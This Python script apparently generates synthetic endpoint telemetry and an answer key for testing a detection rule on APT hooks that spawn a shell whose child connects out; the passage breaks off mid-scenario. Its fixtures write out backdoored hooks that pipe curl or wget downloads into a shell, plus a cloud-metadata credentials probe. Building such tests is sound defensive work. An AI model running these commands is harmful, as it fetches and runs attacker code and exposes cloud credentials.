"""Build `seed_rule.ndjson`, `seed_rule.expected.json` and `README.md` for the seed rule (APT hook shell → child
connects out): Elastic Defend-like Linux process/network events with labelled true positives and decoys.

    .venv/bin/python samples/build_seed_rule.py

Deterministic (fixed seed, fixed base time): re-running it rewrites the same three files. The expected results are
written from the scenarios' intent, not computed by an EQL engine, so they can grade one.
"""

from __future__ import annotations

import base64
import json
import random
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
SEED = 20260115
BASE = datetime(2026, 1, 15, 10, 0, 0, tzinfo=UTC)
BASE_MS = int(BASE.timestamp() * 1000)
AGENT_VERSION = "8.18.3"
ECS_VERSION = "8.10.0"
RULE_ID = "eaef8a35-12e0-4ac0-bc14-81c72b6bd27c"
INDEX = {
    "process": ".ds-logs-endpoint.events.process-default-2026.01.15-000001",
    "network": ".ds-logs-endpoint.events.network-default-2026.01.15-000001",
}
SEED_SOURCE = "../shared/seed/persistence_apt_package_manager_netcon.toml (updated_date 2024/07/09)"
CURRENT_SOURCE = (
    "../shared/detection-rules/rules/linux/persistence_apt_package_manager_netcon.toml "
    "(elastic/detection-rules@14cf530f, updated_date 2026/03/24)"
)

rng = random.Random(SEED)


def b64id(nbytes: int = 15) -> str:
    """An Elasticsearch-style auto-generated `_id` (20 url-safe base64 characters)."""
    return base64.urlsafe_b64encode(rng.getrandbits(nbytes * 8).to_bytes(nbytes, "big")).decode()


def iso(ms: int) -> str:
    return (BASE + timedelta(milliseconds=ms - BASE_MS)).strftime("%Y-%m-%dT%H:%M:%S.") + f"{ms % 1000:03d}Z"


def iso_seconds(ms: int) -> str:
    return (BASE + timedelta(milliseconds=ms - BASE_MS)).strftime("%Y-%m-%dT%H:%M:%SZ")


def at(seconds: float) -> int:
    """Milliseconds since the epoch, `seconds` after the base time."""
    return BASE_MS + round(seconds * 1000)


# ---- model ----------------------------------------------------------------------------------------------------------


@dataclass
class User:
    name: str
    id: str
    group: str
    gid: str


ROOT = User("root", "0", "root", "0")


@dataclass
class Host:
    id: str
    name: str
    arch: str
    ips: list[str]
    macs: list[str]
    os: dict[str, Any]
    agent_id: str
    apt_user: User
    next_pid: int
    seq: int
    event_prefix: str
    shell_name: str = "dash"
    shell_exe: str = "/usr/bin/dash"

    def pid(self) -> int:
        self.next_pid += rng.randrange(2, 40)
        return self.next_pid


@dataclass(eq=False)
class Proc:
    host: Host
    pid: int
    name: str
    executable: str
    args: list[str]
    user: User
    start: int  # ms
    cwd: str
    parent: Proc | None
    interactive: bool
    session: Proc | None = None  # session leader; None means itself
    group: Proc | None = None  # process group leader; None means itself
    entity_id: str = field(init=False)
    exec_id: str | None = None

    def __post_init__(self) -> None:
        sec, milli = divmod(self.start, 1000)
        raw = f"{self.host.agent_id}-{self.pid}-{sec}.{milli:03d}{rng.randrange(1000):03d}"
        self.entity_id = base64.b64encode(raw.encode()).decode()

    @property
    def session_leader(self) -> Proc:
        return self.session or self

    @property
    def group_leader(self) -> Proc:
        return self.group or self

    def ancestry(self) -> list[str]:
        out, p = [], self.parent
        while p is not None and len(out) < 20:
            out.append(p.entity_id)
            p = p.parent
        return out


class World:
    def __init__(self) -> None:
        self.docs: list[tuple[int, dict[str, Any]]] = []

    # -- processes --

    def proc(self, host: Host, parent: Proc | None, name: str, exe: str, args: list[str], start: int, *,
             user: User | None = None, cwd: str | None = None, interactive: bool | None = None,
             new_session: bool = False, new_group: bool = False, pid: int | None = None) -> Proc:
        """A process (no event): `new_session`/`new_group` make it its own session/process group leader."""
        p = Proc(host, pid or host.pid(), name, exe, list(args), user or (parent.user if parent else ROOT), start,
                 cwd or (parent.cwd if parent else "/"), parent,
                 interactive if interactive is not None else (parent.interactive if parent else False))
        if parent is not None:
            p.session = None if new_session else parent.session_leader
            p.group = None if (new_group or new_session) else parent.group_leader
        return p

    def spawn(self, host: Host, parent: Proc, t: float, name: str, exe: str, args: list[str], *, fork: bool = False,
              **kw: Any) -> tuple[Proc, str]:
        """fork (optional event) at `t`, exec event at `t` + 2 ms; returns (process, exec event _id)."""
        p = self.proc(host, parent, name, exe, args, at(t), **kw)
        if fork:
            forked = Proc(host, p.pid, parent.name, parent.executable, parent.args, p.user, p.start, p.cwd, parent,
                          p.interactive, p.session, p.group)
            forked.entity_id = p.entity_id
            self.process_event(at(t), "fork", forked)
        return p, self.process_event(at(t) + 2, "exec", p)

    def end(self, p: Proc, t: float, exit_code: int = 0, *, keep: bool = False) -> str | None:
        """A process end event, written only with `keep` (most ends are left out to keep the file short)."""
        return self.process_event(at(t), "end", p, exit_code=exit_code) if keep else None

    def process_event(self, ms: int, action: str, p: Proc, exit_code: int | None = None) -> str:
        proc: dict[str, Any] = {
            "entity_id": p.entity_id,
            "pid": p.pid,
            "name": p.name,
            "executable": p.executable,
            "args": list(p.args),
            "args_count": len(p.args),
            "command_line": " ".join(p.args),
            "working_directory": p.cwd,
            "start": iso(p.start),
            "interactive": p.interactive,
            "user": {"id": p.user.id, "name": p.user.name},
            "group": {"id": p.user.gid, "name": p.user.group},
            "Ext": {"ancestry": p.ancestry()},
        }
        q = p.parent
        if q is not None:
            proc["parent"] = {
                "entity_id": q.entity_id,
                "pid": q.pid,
                "name": q.name,
                "executable": q.executable,
                "args": list(q.args),
                "args_count": len(q.args),
                "command_line": " ".join(q.args),
                "start": iso(q.start),
                "interactive": q.interactive,
                "user": {"id": q.user.id, "name": q.user.name},
                "group": {"id": q.user.gid, "name": q.user.group},
            }
        for key, leader in (("group_leader", p.group_leader), ("session_leader", p.session_leader)):
            proc[key] = {
                "entity_id": leader.entity_id,
                "pid": leader.pid,
                "name": leader.name,
                "executable": leader.executable,
                "start": iso(leader.start),
            }
        if exit_code is not None:
            proc["exit_code"] = exit_code
        etype = {"fork": "start", "exec": "start", "end": "end"}[action]
        extra = {"process": proc}
        return self.emit(ms, p.host, "process", action, etype, p.user, extra, "Endpoint process event")

    # -- network --

    def connect(self, p: Proc, t: float, dst_ip: str | None, dst_port: int, *, action: str = "connection_attempted",
                transport: str = "tcp", src_ip: str | None = None, src_port: int | None = None,
                host: Host | None = None) -> str:
        """A network event of process `p` (on `host`, default `p.host`); `dst_ip=None` leaves `destination.ip` out."""
        h = host or p.host
        etype = "end" if action.startswith("disconnect") else "start"
        if action == "connection_accepted":
            remote, local = src_ip, dst_ip or h.ips[0]
            direction = "ingress"
            src = {"address": remote, "ip": remote, "port": src_port or rng.randrange(32768, 61000)}
            dst = {"address": local, "ip": local, "port": dst_port}
            ntype = "ipv6" if ":" in remote else "ipv4"
        else:
            direction = "egress"
            if src_ip is None:
                if dst_ip is None or ":" not in dst_ip:
                    src_ip = "127.0.0.1" if dst_ip and dst_ip.startswith("127.") else h.ips[0]
                elif dst_ip == "::1":
                    src_ip = "::1"
                else:
                    src_ip = next(ip for ip in h.ips if ip.startswith("fe80:"))
            src = {"address": src_ip, "ip": src_ip, "port": src_port or rng.randrange(32768, 61000)}
            dst = {"port": dst_port} if dst_ip is None else {"address": dst_ip, "ip": dst_ip, "port": dst_port}
            ntype = "ipv6" if ":" in (dst_ip or src_ip) else "ipv4"
        proc = {
            "entity_id": p.entity_id,
            "pid": p.pid,
            "name": p.name,
            "executable": p.executable,
            "parent": {"entity_id": p.parent.entity_id} if p.parent else {},
            "group_leader": {"entity_id": p.group_leader.entity_id},
            "session_leader": {"entity_id": p.session_leader.entity_id},
            "Ext": {"ancestry": p.ancestry()},
        }
        extra = {
            "process": proc,
            "source": src,
            "destination": dst,
            "network": {"direction": direction, "transport": transport, "type": ntype},
        }
        if etype == "end":
            src["bytes"] = rng.randrange(300, 2000)
            dst["bytes"] = rng.randrange(2000, 90000)
        return self.emit(at(t), h, "network", action, etype, p.user, extra, "Endpoint network event")

    def disconnect(self, p: Proc, t: float, dst_ip: str, dst_port: int, src_port: int | None = None) -> str:
        return self.connect(p, t, dst_ip, dst_port, action="disconnect_received", src_port=src_port)

    # -- documents --

    def emit(self, ms: int, h: Host, category: str, action: str, etype: str, user: User, extra: dict[str, Any],
             message: str) -> str:
        h.seq += rng.randrange(1, 30)
        ts = iso(ms)
        source: dict[str, Any] = {
            "@timestamp": ts,
            "agent": {"id": h.agent_id, "type": "endpoint", "version": AGENT_VERSION},
            "data_stream": {"dataset": f"endpoint.events.{category}", "namespace": "default", "type": "logs"},
            "ecs": {"version": ECS_VERSION},
            "elastic": {"agent": {"id": h.agent_id}},
            "event": {
                "action": action,
                "agent_id_status": "verified",
                "category": [category],
                "created": ts,
                "dataset": f"endpoint.events.{category}",
                "id": h.event_prefix + "".join(rng.choice(B64[:62]) for _ in range(8)) + "+++++"
                + "".join(rng.choice(B64[:62]) for _ in range(3)),
                "ingested": iso_seconds(ms + rng.randrange(1500, 4000)),
                "kind": "event",
                "module": "endpoint",
                "sequence": h.seq,
                "type": [etype],
            },
            "host": {
                "architecture": h.arch,
                "hostname": h.name,
                "id": h.id,
                "ip": list(h.ips),
                "mac": list(h.macs),
                "name": h.name,
                "os": json.loads(json.dumps(h.os)),
            },
            "message": message,
            "user": {"id": user.id, "name": user.name},
            "group": {"id": user.gid, "name": user.group},
        }
        source.update(extra)
        doc_id = b64id()
        self.docs.append((ms, {"_index": INDEX[category], "_id": doc_id, "_source": source}))
        return doc_id


B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


def make_host(name: str, ip: str, os_: dict[str, Any], apt_uid: str, arch: str = "x86_64") -> Host:
    mac = "0a:" + ":".join(f"{rng.randrange(256):02x}" for _ in range(5))
    agent_id = (f"{rng.getrandbits(32):08x}-{rng.getrandbits(16):04x}-4{rng.getrandbits(12):03x}-"
                f"{0x8000 | rng.getrandbits(14):04x}-{rng.getrandbits(48):012x}")
    a, b, c, d, e = (rng.randrange(256) for _ in range(5))
    fe80 = f"fe80::8{a:02x}:{b:02x}ff:fe{c:02x}:{d:02x}{e:02x}"
    return Host(
        id=f"{rng.getrandbits(128):032x}", name=name, arch=arch, ips=[ip, fe80, "127.0.0.1", "::1"], macs=[mac],
        os=os_, agent_id=agent_id, apt_user=User("_apt", apt_uid, "nogroup", "65534"),
        next_pid=rng.randrange(200_000, 900_000), seq=rng.randrange(100_000, 9_000_000),
        event_prefix="".join(rng.choice(B64[:62]) for _ in range(8)),
    )


def ubuntu(version: str, codename: str, kernel: str) -> dict[str, Any]:
    short = version.split(" ")[0]
    return {"Ext": {"variant": "Ubuntu"}, "family": "ubuntu", "full": f"Ubuntu {short}", "kernel": kernel,
            "name": "Linux", "platform": "ubuntu", "type": "linux", "version": short}


# ---- scenarios ------------------------------------------------------------------------------------------------------


@dataclass
class Scenario:
    label: str
    kind: str  # "true_positive" | "filtered_by_current_version" | "decoy" | "noise"
    host: str
    why: str
    ids: dict[str, str] = field(default_factory=dict)  # role -> _id
    seed_match: tuple[str, str] | None = None  # (process _id, network _id) for the seed query
    current_match: tuple[str, str] | None = None  # same for the current query
    join_key: str | None = None  # the shell's entity id (second join key)


def build() -> tuple[World, dict[str, Host], list[Scenario]]:
    w = World()
    H1 = make_host("web-prod-01", "10.0.1.21",
                   ubuntu("22.04.4", "jammy", "5.15.0-1064-aws #70-Ubuntu SMP Thu Jun 27 13:16:12 UTC 2024"), "105")
    H2 = make_host("db-prod-02", "10.0.2.34",
                   {"Ext": {"variant": "Debian"}, "family": "debian", "full": "Debian 12.8",
                    "kernel": "6.1.0-28-cloud-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 (2024-11-22)",
                    "name": "Linux", "platform": "debian", "type": "linux", "version": "12.8"}, "42")
    H3 = make_host("build-03", "10.0.3.47",
                   ubuntu("24.04.1", "noble", "6.8.0-1018-aws #19-Ubuntu SMP Mon Oct 28 18:20:21 UTC 2024"), "42",
                   arch="aarch64")
    H4 = make_host("app-staging-04", "192.168.40.15",
                   ubuntu("22.04.5", "jammy", "5.15.0-126-generic #136-Ubuntu SMP Wed Nov 6 10:38:22 UTC 2024"),
                   "105")
    hosts = {"H1": H1, "H2": H2, "H3": H3, "H4": H4}
    py = {"H1": ("python3.10", "/usr/bin/python3.10"), "H2": ("python3.11", "/usr/bin/python3.11"),
          "H3": ("python3.12", "/usr/bin/python3.12"), "H4": ("python3.10", "/usr/bin/python3.10")}

    # long-running processes (started before the window: no events)
    boot = {k: BASE_MS - rng.randrange(86_400_000, 40 * 86_400_000) for k in hosts}
    init = {k: w.proc(h, None, "systemd", "/usr/lib/systemd/systemd", ["/sbin/init"], boot[k], pid=1)
            for k, h in hosts.items()}
    sshd = {k: w.proc(h, init[k], "sshd", "/usr/sbin/sshd",
                      ["sshd:", "/usr/sbin/sshd", "-D", "[listener]", "0", "of", "10-100", "startups"],
                      boot[k] + 2100, new_session=True) for k, h in hosts.items()}
    cron = w.proc(H2, init["H2"], "cron", "/usr/sbin/cron", ["/usr/sbin/cron", "-f"], boot["H2"] + 2300,
                  new_session=True)

    def login(k: str, user: User, t_session: float, *, emit: bool = True) -> Proc:
        """An SSH session's login shell (started before `t_session`; no event)."""
        h = hosts[k]
        sess = w.proc(h, sshd[k], "sshd", "/usr/sbin/sshd", ["sshd:", f"{user.name}@pts/0"], at(t_session) - 900,
                      user=user, new_session=True)
        shell = w.proc(h, sess, "bash", "/usr/bin/bash", ["-bash"], at(t_session) - 2, user=user,
                       cwd=f"/home/{user.name}", interactive=True, new_session=True)
        shell.exec_id = w.process_event(at(t_session), "exec", shell) if emit else None
        return shell

    def sudo_apt(k: str, shell: Proc, t: float, apt_args: list[str], *, fork: bool = False,
                 binary: str = "apt", show_sudo: bool = False) -> Proc:
        """`sudo apt ...` typed in `shell`: apt exec at `t` + 45 ms (and the sudo exec at `t` with `show_sudo`)."""
        h = hosts[k]
        if show_sudo:
            sudo, _ = w.spawn(h, shell, t, "sudo", "/usr/bin/sudo", ["sudo", *apt_args], fork=fork, user=ROOT,
                              new_group=True)
        else:
            sudo = w.proc(h, shell, "sudo", "/usr/bin/sudo", ["sudo", *apt_args], at(t), user=ROOT, new_group=True)
        apt, _ = w.spawn(h, sudo, t + 0.045, binary, f"/usr/bin/{binary}", apt_args, fork=fork)
        return apt

    def hook(k: str, parent: Proc, t: float, script: str, *, fork: bool = False) -> tuple[Proc, str]:
        """An APT hook: apt runs `/bin/sh -c <script>` (dash on Debian and Ubuntu)."""
        h = hosts[k]
        return w.spawn(h, parent, t, h.shell_name, h.shell_exe, ["/bin/sh", "-c", script], fork=fork)

    ubuntu_u = {k: User("ubuntu", "1000", "ubuntu", "1000") for k in ("H1", "H3")}
    admin = User("admin", "1000", "admin", "1000")
    deploy = User("deploy", "1001", "deploy", "1001")
    sc: list[Scenario] = []

    # ===== H1 web-prod-01: SSH login, `sudo apt update` with a backdoored Pre-Invoke hook (TP1) ===================
    s = Scenario("noise_ssh_login_and_apt_update", "noise", "H1",
                 "SSH login, `sudo apt update`: the http method (a child of apt, not of a shell) fetches from the "
                 "Ubuntu archive; nothing here is a shell spawned by apt")
    s.ids["sshd_accept"] = w.connect(sshd["H1"], 0.120, None, 22, action="connection_accepted", src_ip="10.0.0.5")
    bash1 = login("H1", ubuntu_u["H1"], 1.480)
    s.ids["login_bash_exec"] = bash1.exec_id
    apt1 = sudo_apt("H1", bash1, 4.210, ["apt", "update"], show_sudo=True)
    sc.append(s)

    tp1 = Scenario("tp1_pre_invoke_curl_pipe_sh", "true_positive", "H1",
                   "apt runs the hook `/bin/sh -c \"curl -fsSL http://45.33.32.156/x.sh | bash\"`; its child curl "
                   "connects to 45.33.32.156:80 215 ms after the shell's exec event (fork events included: their "
                   "action is `fork`)")
    sh1, tp1.ids["shell_exec"] = hook("H1", apt1, 4.301, "curl -fsSL http://45.33.32.156/x.sh | bash", fork=True)
    curl1, tp1.ids["curl_exec"] = w.spawn(H1, sh1, 4.306, "curl", "/usr/bin/curl",
                                          ["curl", "-fsSL", "http://45.33.32.156/x.sh"], fork=True)
    stage2, tp1.ids["stage2_bash_exec"] = w.spawn(H1, sh1, 4.309, "bash", "/usr/bin/bash", ["bash"])
    port1 = rng.randrange(40000, 60000)
    tp1.ids["curl_connect"] = w.connect(curl1, 4.518, "45.33.32.156", 80, src_port=port1)
    tp1.ids["curl_disconnect"] = w.disconnect(curl1, 4.790, "45.33.32.156", 80, src_port=port1)
    tp1.ids["curl_end"] = w.end(curl1, 4.793, keep=True)
    tp1.seed_match = tp1.current_match = (tp1.ids["shell_exec"], tp1.ids["curl_connect"])
    tp1.join_key = sh1.entity_id
    sc.append(tp1)
    second = Scenario("tp1_second_connection_same_key", "decoy", "H1",
                      "the downloaded x.sh, run by the stage-2 `bash` (also a child of the hook shell), opens a "
                      "second connection through /dev/tcp 1.3 s after the hook shell's exec: same join key, but that "
                      "key's sequence is already complete, so it makes no second sequence")
    second.ids["stage2_connect"] = w.connect(stage2, 5.610, "45.33.32.156", 4444)
    sc.append(second)
    w.end(stage2, 5.702)
    w.end(sh1, 5.706)
    http1, s.ids["http_method_exec"] = w.spawn(H1, apt1, 5.903, "http", "/usr/lib/apt/methods/http",
                                               ["/usr/lib/apt/methods/http"], user=H1.apt_user)
    port = rng.randrange(40000, 60000)
    s.ids["http_connect"] = w.connect(http1, 6.012, "91.189.91.81", 80, src_port=port)
    cnf = Scenario("benign_post_invoke_hook_no_network", "decoy", "H1",
                   "Ubuntu's stock command-not-found Post-Invoke-Success hook: a first-stage match (apt → sh -c), "
                   "but nothing under it connects, so the sequence never completes")
    sh_cnf, cnf.ids["shell_exec"] = hook("H1", apt1, 7.521, "if /usr/bin/test -w /var/lib/command-not-found/ -a -e "
                                         "/usr/lib/cnf-update-db; then /usr/lib/cnf-update-db > /dev/null; fi")
    test1, cnf.ids["test_exec"] = w.spawn(H1, sh_cnf, 7.525, "test", "/usr/bin/test",
                                          ["/usr/bin/test", "-w", "/var/lib/command-not-found/", "-a", "-e",
                                           "/usr/lib/cnf-update-db"])
    w.end(test1, 7.528)
    w.end(sh_cnf, 8.604)
    sc.append(cnf)

    # ===== H2 db-prod-02 (Debian 12): cron noise; `apt install` with a backdoored DPkg::Post-Invoke hook (TP2) =====
    n = Scenario("noise_cron_sysstat", "noise", "H2", "cron runs `/bin/sh -c ...debian-sa1...`: a shell with -c, "
                 "but its parent is cron")
    sh_cron, n.ids["cron_shell_exec"] = w.spawn(H2, cron, 12.004, "dash", "/usr/bin/dash",
                                                ["/bin/sh", "-c",
                                                 "command -v debian-sa1 > /dev/null && debian-sa1 1 1"],
                                                new_session=True, cwd="/root")
    sa1, n.ids["sa1_exec"] = w.spawn(H2, sh_cron, 12.011, "debian-sa1", "/usr/lib/sysstat/debian-sa1",
                                     ["/usr/lib/sysstat/debian-sa1", "1", "1"])
    w.end(sa1, 12.090)
    w.end(sh_cron, 12.093)
    sc.append(n)
    bash2 = login("H2", admin, 14.200, emit=False)
    apt2 = sudo_apt("H2", bash2, 15.010, ["apt", "install", "-y", "postgresql-client-15"])
    dpkg2 = w.proc(H2, apt2, "dpkg", "/usr/bin/dpkg",
                       ["/usr/bin/dpkg", "--status-fd", "36", "--no-triggers", "--unpack", "--auto-deconfigure",
                        "/var/cache/apt/archives/postgresql-client-15_15.10-0+deb12u1_amd64.deb"], at(17.455))
    w.end(dpkg2, 19.870)
    tp2 = Scenario("tp2_post_invoke_metadata_probe_then_fetch", "true_positive", "H2",
                   "DPkg::Post-Invoke hook: a first curl probes the cloud metadata service (169.254.169.254, 14 ms "
                   "after the shell), a second fetches a stage from 185.199.108.133:443 (180 ms after). The seed "
                   "query completes the sequence with the first connection; the current query filters link-local "
                   "destinations, keeps the sequence open and completes it with the public one")
    script2 = ("curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/ >/dev/null && "
               "curl -fsSL https://raw.githubusercontent.com/pgtools-ops/maint/main/i.sh | bash")
    sh2, tp2.ids["shell_exec"] = hook("H2", apt2, 20.200, script2)
    c2a, tp2.ids["probe_curl_exec"] = w.spawn(H2, sh2, 20.204, "curl", "/usr/bin/curl",
                                              ["curl", "-s", "-m", "2",
                                               "http://169.254.169.254/latest/meta-data/iam/security-credentials/"])
    port = rng.randrange(40000, 60000)
    tp2.ids["probe_connect"] = w.connect(c2a, 20.214, "169.254.169.254", 80, src_port=port)
    w.end(c2a, 20.229)
    c2b, tp2.ids["fetch_curl_exec"] = w.spawn(H2, sh2, 20.236, "curl", "/usr/bin/curl",
                                              ["curl", "-fsSL",
                                               "https://raw.githubusercontent.com/pgtools-ops/maint/main/i.sh"])
    port = rng.randrange(40000, 60000)
    tp2.ids["fetch_connect"] = w.connect(c2b, 20.380, "185.199.108.133", 443, src_port=port)
    w.end(c2b, 20.657)
    w.end(sh2, 21.412)
    tp2.seed_match = (tp2.ids["shell_exec"], tp2.ids["probe_connect"])
    tp2.current_match = (tp2.ids["shell_exec"], tp2.ids["fetch_connect"])
    tp2.join_key = sh2.entity_id
    sc.append(tp2)

    # ===== H3 build-03 (Ubuntu 24.04, aarch64): boundary true positive at exactly maxspan (TP3) ===================
    bash3 = login("H3", ubuntu_u["H3"], 26.500, emit=False)
    apt3 = sudo_apt("H3", bash3, 27.000, ["apt", "update"])
    tp3 = Scenario("tp3_exactly_5000ms", "true_positive", "H3",
                   "Pre-Invoke hook `sleep 4.9; wget ... | sh`: wget's connection is exactly 5.000 s after the shell's "
                   "exec event. maxspan is inclusive (Elasticsearch's SequenceMatcher rejects only a span > maxspan)")
    script3 = "sleep 4.9; wget -qO- http://45.33.32.156:8080/u | sh"
    sh3, tp3.ids["shell_exec"] = hook("H3", apt3, 27.100, script3)  # exec at 27.102
    sl3, _ = w.spawn(H3, sh3, 27.104, "sleep", "/usr/bin/sleep", ["sleep", "4.9"])
    w.end(sl3, 32.008)
    wg3, tp3.ids["wget_exec"] = w.spawn(H3, sh3, 32.010, "wget", "/usr/bin/wget",
                                        ["wget", "-qO-", "http://45.33.32.156:8080/u"])
    tp3.ids["wget_connect"] = w.connect(wg3, 32.102, "45.33.32.156", 8080)
    tp3.seed_match = tp3.current_match = (tp3.ids["shell_exec"], tp3.ids["wget_connect"])
    tp3.join_key = sh3.entity_id
    sc.append(tp3)

    # ===== H4 app-staging-04: interactive noise; the same backdoor run by apt-get ===================================
    n4 = Scenario("noise_interactive_curl", "noise", "H4",
                  "an SSH user's login bash runs curl to a public address: a shell's child connecting, but the shell "
                  "was not started by apt (and has no -c)")
    bash4 = login("H4", deploy, 31.200)
    n4.ids["login_bash_exec"] = bash4.exec_id
    cu4, n4.ids["curl_exec"] = w.spawn(H4, bash4, 33.400, "curl", "/usr/bin/curl",
                                       ["curl", "-sI", "https://api.github.com"], new_group=True)
    n4.ids["curl_connect"] = w.connect(cu4, 33.498, "140.82.112.5", 443)
    w.end(cu4, 33.730)
    sc.append(n4)

    d = Scenario("wrong_parent_apt_get", "decoy", "H4",
                 "the same backdoor hook run by `apt-get` (process.parent.name is apt-get, not apt); its child curl "
                 "connects to a public address 210 ms later")
    aptget = sudo_apt("H4", bash4, 35.000, ["apt-get", "update"], binary="apt-get")
    shd, d.ids["shell_exec"] = hook("H4", aptget, 35.120, "curl -fsSL http://45.33.32.156/x.sh | sh")
    cud, _ = w.spawn(H4, shd, 35.125, "curl", "/usr/bin/curl", ["curl", "-fsSL", "http://45.33.32.156/x.sh"])
    d.ids["curl_connect"] = w.connect(cud, 35.330, "45.33.32.156", 80)
    w.end(cud, 35.610)
    w.end(shd, 35.650)
    sc.append(d)

    # ===== H3: the boundary's twin, one millisecond later ===========================================================
    d = Scenario("beyond_maxspan_5001ms", "decoy", "H3",
                 "same hook as tp3 on the next `apt update`: wget connects 5.001 s after the shell's exec event")
    apt3b = sudo_apt("H3", bash3, 45.000, ["apt", "update"])
    sh3b, d.ids["shell_exec"] = hook("H3", apt3b, 45.200, script3)  # exec at 45.202
    wg3b, _ = w.spawn(H3, sh3b, 50.112, "wget", "/usr/bin/wget", ["wget", "-qO-", "http://45.33.32.156:8080/u"])
    d.ids["wget_connect"] = w.connect(wg3b, 50.203, "45.33.32.156", 8080)
    sc.append(d)

    # ===== H4: apt runs a bash script without -c (Dir::Bin::dpkg pointed at a wrapper) ===============================
    d = Scenario("no_dash_c_arg", "decoy", "H4",
                 "apt's Dir::Bin::dpkg points at a bash wrapper script, so apt starts `/bin/bash /usr/local/sbin/dpkg "
                 "...`: a shell whose parent is apt, but with no \"-c\" argument; the wrapper's curl connects out")
    apt4 = sudo_apt("H4", bash4, 52.000, ["apt", "install", "-y", "jq"])
    wr, d.ids["shell_exec"] = w.spawn(H4, apt4, 53.400, "bash", "/usr/bin/bash",
                                      ["/bin/bash", "/usr/local/sbin/dpkg", "--status-fd", "35", "--no-triggers",
                                       "--unpack", "--auto-deconfigure",
                                       "/var/cache/apt/archives/jq_1.6-2.1ubuntu3_amd64.deb"])
    cu, _ = w.spawn(H4, wr, 53.411, "curl", "/usr/bin/curl", ["curl", "-fsS", "-o", "/dev/null",
                                                             "http://45.33.32.156/b?h=app-staging-04"])
    d.ids["curl_connect"] = w.connect(cu, 53.602, "45.33.32.156", 80)
    w.end(cu, 53.880)
    sc.append(d)

    # ===== H2: dpkg's own post-invoke hook; apt-listbugs (executable excluded by the current query) ================
    d = Scenario("wrong_parent_dpkg", "decoy", "H2",
                 "a `post-invoke` line in /etc/dpkg/dpkg.cfg.d/: dpkg (itself a child of apt) runs `/bin/sh -c ...`, "
                 "so the shell's parent is dpkg; its child curl connects to a public address")
    apt2b = sudo_apt("H2", bash2, 55.000, ["apt", "install", "-y", "htop", "rsync"])
    dpkg2b = w.proc(H2, apt2b, "dpkg", "/usr/bin/dpkg",
                    ["/usr/bin/dpkg", "--status-fd", "36", "--configure", "--pending"], at(58.300))
    shp, d.ids["shell_exec"] = w.spawn(H2, dpkg2b, 59.020, "dash", "/usr/bin/dash",
                                       ["/bin/sh", "-c", "curl -fsS http://45.33.32.156/d | sh"])
    cu, _ = w.spawn(H2, shp, 59.026, "curl", "/usr/bin/curl", ["curl", "-fsS", "http://45.33.32.156/d"])
    d.ids["curl_connect"] = w.connect(cu, 59.231, "45.33.32.156", 80)
    w.end(cu, 57.460)
    sc.append(d)

    f = Scenario("apt_listbugs_executable", "filtered_by_current_version", "H2",
                 "Debian's apt-listbugs Pre-Install-Pkgs hook (`/usr/bin/apt-listbugs apt || exit 10`): the "
                 "apt-listbugs process (executable /usr/bin/apt-listbugs) queries the Debian bug tracker at a public "
                 "address. Seed query: a sequence. Current query: excluded by `not process.executable == "
                 "\"/usr/bin/apt-listbugs\"` (the shell's args differ from \"/usr/bin/apt-listbugs apt\", so only the "
                 "network-side exclusion applies)")
    apt2c = apt2b  # same `apt install` run as wrong_parent_dpkg
    shl, f.ids["shell_exec"] = hook("H2", apt2c, 55.880, "/usr/bin/apt-listbugs apt || exit 10")
    lb, f.ids["listbugs_exec"] = w.spawn(H2, shl, 55.884, "apt-listbugs", "/usr/bin/apt-listbugs",
                                         ["/usr/bin/ruby", "/usr/bin/apt-listbugs", "apt"])
    f.ids["listbugs_connect"] = w.connect(lb, 56.731, "130.89.148.77", 443)
    w.end(lb, 61.950)
    w.end(shl, 61.953)
    f.seed_match = (f.ids["shell_exec"], f.ids["listbugs_connect"])
    f.join_key = shl.entity_id
    sc.append(f)

    # ===== H3: python3 -c as apt's child; a hook that sleeps 7 s ====================================================
    d = Scenario("shell_name_not_in_list_python3", "decoy", "H3",
                 "apt's direct child is `python3 -c ...` (process.args has \"-c\", but process.name is python3.12, "
                 "not a shell); the curl it starts connects out")
    apt3c = sudo_apt("H3", bash3, 63.000, ["apt", "upgrade", "-y"])
    pyn, pye = py["H3"]
    pyp, d.ids["python_exec"] = w.spawn(H3, apt3c, 63.310, pyn, pye,
                                        ["python3", "-c", "import subprocess;subprocess.run(['curl','-fsS',"
                                         "'http://45.33.32.156/p'])"])
    cu, _ = w.spawn(H3, pyp, 63.390, "curl", "/usr/bin/curl", ["curl", "-fsS", "http://45.33.32.156/p"])
    d.ids["curl_connect"] = w.connect(cu, 63.571, "45.33.32.156", 80)
    w.end(cu, 63.809)
    w.end(pyp, 63.840)
    sc.append(d)
    d = Scenario("beyond_maxspan_7s", "decoy", "H3",
                 "hook `sleep 7; curl ... | sh`: the shell's child connects 7.1 s after the shell's exec event")
    shs, d.ids["shell_exec"] = hook("H3", apt3c, 64.500, "sleep 7; curl -fsSL http://45.33.32.156/x.sh | sh")
    cu, _ = w.spawn(H3, shs, 71.512, "curl", "/usr/bin/curl", ["curl", "-fsSL", "http://45.33.32.156/x.sh"])
    d.ids["curl_connect"] = w.connect(cu, 71.603, "45.33.32.156", 80)
    w.end(cu, 71.877)
    sc.append(d)

    # ===== H4 / H1: wrong order; network on another host ============================================================
    d = Scenario("wrong_order_network_first", "decoy", "H4",
                 "synthetic ordering anomaly: the child's connection is stamped 0.8 s before the shell's exec event "
                 "(same host, same entity ids, public address); a sequence needs the process event first")
    apt4b = sudo_apt("H4", bash4, 75.000, ["apt", "update"])
    sho = w.proc(H4, apt4b, "dash", "/usr/bin/dash", ["/bin/sh", "-c", "curl -fsSL http://45.33.32.156/o.sh | sh"],
                 at(76.798))
    cuo = w.proc(H4, sho, "curl", "/usr/bin/curl", ["curl", "-fsSL", "http://45.33.32.156/o.sh"], at(76.803))
    d.ids["curl_connect"] = w.connect(cuo, 76.000, "45.33.32.156", 80)
    d.ids["shell_exec"] = w.process_event(at(76.800), "exec", sho)
    w.process_event(at(76.805), "exec", cuo)
    w.end(cuo, 77.100)
    w.end(sho, 77.150)
    sc.append(d)
    d = Scenario("other_host", "decoy", "H4→H1",
                 "synthetic: the hook shell runs on app-staging-04, but the network event naming it as parent is "
                 "reported under web-prod-01's host.id (entity ids embed the agent id, so only a cloned agent could "
